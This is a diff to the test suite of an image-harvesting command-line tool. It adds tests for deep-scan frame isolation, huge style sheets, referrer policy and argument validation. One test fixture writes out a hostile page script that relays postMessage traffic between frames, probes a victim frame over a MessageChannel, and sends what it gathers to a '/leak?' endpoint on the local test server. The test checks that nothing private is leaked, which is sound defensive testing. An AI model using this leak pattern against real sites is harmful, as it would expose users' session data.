@@ -123,6 +123,103 @@ private slots:
                  server.url("deep/pictures/big%20photo.webp"));
     }
 
+    // A hostile top page with a hostile frame that forwards every message it gets, and a
+    // victim frame of a third origin: Deep Scan lists the victim's picture, and nothing
+    // the page's scripts see lets them read it.
+    void hostileFramesLearnNothingFromDeepScan() {
+        const QString victim = server.url("deep/victim.html").replace("127.0.0.1", "localhost");
+        server.setFile("/deep/victim.html", "<img src='victim-private-SESSION987.png'>");
+        otherOrigin.setFile("/deep/forwarder.html",
+                            "<script>addEventListener('message', function (e) {"
+                            "  parent.postMessage({forwarded: e.data}, '*'); });</script>");
+        server.setFile(
+            "/deep/attack.html",
+            ("<iframe src='" + otherOrigin.url("deep/forwarder.html") +
+             "'></iframe>"
+             "<iframe src='" +
+             victim +
+             "'></iframe><script>"
+             "function leak(data) { fetch('/leak?' + encodeURIComponent(JSON.stringify(data))); }"
+             "addEventListener('message', function (e) {"
+             "  leak(e.data);"
+             "  if (!e.data || !e.data.forwarded) return;"
+             "  var channel = new MessageChannel();"
+             "  channel.port1.onmessage = function (answer) { leak(answer.data); };"
+             "  frames[1].postMessage(e.data.forwarded, '*', [channel.port2]);"
+             "  frames[1].postMessage(e.data.forwarded, '*'); });</script>")
+                .toUtf8());
+        server.clearRequests();
+        const ToolRun run = runHarvestTool({"--deep", server.url("deep/attack.html")});
+        QVERIFY2(run.output.contains("victim-private-SESSION987.png\t" + victim.chopped(11) +
+                                     "victim-private-SESSION987.png"),
+                 qPrintable(run.output));
+        QStringList leaks;
+        for (const HttpRequest& request : server.requests())
+            if (request.path.startsWith("/leak?"))
+                leaks << QUrl::fromPercentEncoding(request.path);
+        QVERIFY2(!leaks.isEmpty(), "the forwarder forwarded nothing");
+        QVERIFY2(leaks.filter("SESSION987").isEmpty(), qPrintable(leaks.join('\n')));
+    }
+
+    // Style sheets far too long to read within the budget (the engine itself uses no more
+    // than 2^18 rules of a sheet) still give the backgrounds of the pictures on screen.
+    void hugeStyleSheetsStillGiveTheVisibleBackgrounds() {
+        QByteArray sheet;
+        for (int i = 0; i < 250000; ++i)
+            sheet += ".r" + QByteArray::number(i) + "{color:red}";
+        QByteArray page = "<link rel='stylesheet' href='huge.css?1'>"
+                          "<link rel='stylesheet' href='huge.css?2'><style>";
+        QByteArray divs;
+        QStringList expected;
+        for (int i = 0; i < 20; ++i) {
+            const QByteArray n = QByteArray::number(i);
+            page += ".b" + n + "{background-image:url(bg" + n + ".png)}";
+            divs += "<div class='b" + n + "' style='width:40px;height:40px'></div>";
+            expected << "bg" + n + ".png";
+        }
+        server.setFile("/deep/huge.css", sheet, "text/css");
+        server.setFile("/deep/huge.html", page + "</style>" + divs);
+        const ToolRun run = runHarvestTool({"--deep", "--json", server.url("deep/huge.html")});
+        QStringList listed;
+        const QJsonObject report = QJsonDocument::fromJson(run.output.toUtf8()).object();
+        for (const QJsonValue& image : report["images"].toArray())
+            listed << image["name"].toString();
+        expected.sort();
+        QCOMPARE(listed, expected);
+    }
+
+    // Downloads send no more Referer than the engine would: the page's header, a meta a
+    // script removed after the engine applied it, and the elements' own policies count.
+    void downloadsFollowThePagesReferrerPolicy() {
+        server.setRoute(
+            "/ref/header.html",
+            {200, "text/html", "<img src='h.png'>", {{"Referrer-Policy", "no-referrer"}}});
+        server.setFile("/ref/meta.html", "<meta name='referrer' content='no-referrer'>"
+                                         "<img src='m.png'><script>document.querySelector("
+                                         "'meta').remove();</script>");
+        server.setFile("/ref/elements.html",
+                       "<img referrerpolicy='no-referrer' src='e1.png'>"
+                       "<a rel='nofollow noreferrer' href='e2.png'>2</a>"
+                       "<a referrerpolicy='origin' href='e3.png'>3</a><img src='e4.png'>");
+        for (const char* name : {"h", "m", "e1", "e2", "e3", "e4"})
+            server.setFile("/ref/" + QByteArray(name) + ".png", name, "image/png");
+        server.clearRequests();
+        for (const char* page : {"header", "meta", "elements"}) {
+            QTemporaryDir folder;
+            const ToolRun run = runHarvestTool(
+                {"--download", folder.path(), server.url("ref/" + QString(page) + ".html")});
+            QCOMPARE(run.exitCode, 0);
+        }
+        QStringList sent; // picture and Referer of each download
+        for (const HttpRequest& request : server.requests())
+            if (request.headers.value("user-agent") == "Quillmar")
+                sent << request.path.mid(5) + '|' + request.headers.value("referer");
+        sent.sort();
+        QCOMPARE(sent,
+                 (QStringList{"e1.png|", "e2.png|", "e3.png|" + server.url(),
+                              "e4.png|" + server.url("ref/elements.html"), "h.png|", "m.png|"}));
+    }
+
     void scrollsUntilThePageStopsGrowing() {
         const QString threeMore = server.url("deep/endless.html?batches=4");
         QCOMPARE(runHarvestTool({threeMore}).output.section('\n', 0, 0), "images 4 4");
@@ -204,10 +301,20 @@ private slots:
         row("stalled", {"--timeout", "2", "@pages/stalled.html"}, 1, "",
             "quillmar-harvest: timed out loading @pages/stalled.html\n");
         // Arguments split at "|".
-        for (const QString wrong : {"", "a.html|b.html", "  ", "--fast|a.html",
-                                    "--timeout|soon|a.html", "--timeout|0|a.html", "--timeout|5"})
+        for (const QString wrong : {"", "a.html|b.html", "  ", "--timeout|5"})
             row(qPrintable("usage: " + wrong), wrong.split('|', Qt::SkipEmptyParts), 2, "",
                 "usage: quillmar-harvest");
+        // Every bad value says what is wrong on one line before the usage.
+        const QString timeoutRange = "quillmar-harvest: --timeout takes a number of seconds from "
+                                     "1 to 86400\nusage:";
+        for (const QString wrong : {"soon", "0", "99999999999", " 4", "1e3"})
+            row(qPrintable("timeout " + wrong), {"--timeout", wrong, "a.html"}, 2, "",
+                timeoutRange);
+        for (const QString wrong : {" 4", "+4", "0", "17", "4x"})
+            row(qPrintable("parallel " + wrong), {"--download", ".", "--parallel", wrong, "a.html"},
+                2, "", "quillmar-harvest: --parallel takes a number from 1 to 16\nusage:");
+        row("unknown option", {"--fast", "a.html"}, 2, "",
+            "quillmar-harvest: Unknown option 'fast'.\nusage:");
         row("size without deep scan", {"--min-size", "9x9", "a.html"}, 2, "",
             "quillmar-harvest: --min-size needs --deep\n");
         row("size without height", {"--deep", "--min-size", "9", "a.html"}, 2, "",
